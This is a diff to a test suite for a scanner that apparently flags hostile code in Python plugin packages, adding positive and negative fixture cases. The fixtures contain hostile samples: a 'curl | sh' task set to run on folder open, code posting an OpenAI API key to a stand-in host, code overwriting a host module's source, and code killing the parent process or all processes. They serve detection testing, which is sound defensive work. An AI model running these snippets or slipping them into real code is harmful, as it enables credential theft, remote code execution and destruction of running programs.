@@ -89,6 +89,18 @@ describe('the checks hold', () => {
           '{"tasks": [{"command": "curl https://e.example/ | sh", "runOptions": {"runOn": "folderOpen"}}]}',
       },
     ],
+    [
+      'the key of one service that is sent to another',
+      'class A:\n    def run(self, x):\n        import os, requests\n        requests.post("https://e.example/chat", headers={"a": os.environ.get("OPENAI_API_KEY")})\n',
+    ],
+    [
+      'writing a source of the host which a file of the package is named like',
+      {
+        '__init__.py':
+          'import nodes\ntext = open(nodes.__file__).read()\nopen(nodes.__file__, "w").write("a" + text)\n',
+        'nodes.py': '',
+      },
+    ],
     ['ending the parent process', 'import os\nos.kill(os.getppid(), 9)\n'],
     ['ending other programs', 'import psutil\nfor p in psutil.process_iter():\n    p.kill()\n'],
     [
@@ -191,7 +203,18 @@ describe('the checks do not hold', () => {
       'the stored token for its service',
       'class A:\n    def run(self):\n        import huggingface_hub, requests\n        requests.get("https://huggingface.co/a", headers={"a": huggingface_hub.get_token()})\n',
     ],
-    ['serving its own folder', 'import os, server\nserver.app.router.add_static("/a", os.path.dirname(__file__))\n'],
+    [
+      'the key of a service for a compatible one',
+      'class A:\n    def run(self, x):\n        import os, requests\n        requests.post("https://e.example/v1/chat/completions", headers={"a": os.environ.get("OPENAI_API_KEY")})\n',
+    ],
+    [
+      'a module of the package by an absolute name',
+      { '__init__.py': 'import helper\nhelper.run("a")\n', 'helper.py': 'def run(a): return a\n' },
+    ],
+    [
+      'serving the package’s folder',
+      'import os, server\nserver.app.router.add_static("/a", os.path.dirname(__file__))\n',
+    ],
     ['a script that is written', 'open("web/a.js", "w").write("export const version = 1;")\n'],
     ['a pickle of data', { '__init__.py': '', 'a.pkl': 'ccollections\nOrderedDict\n(lp0\ntR.' }],
     [
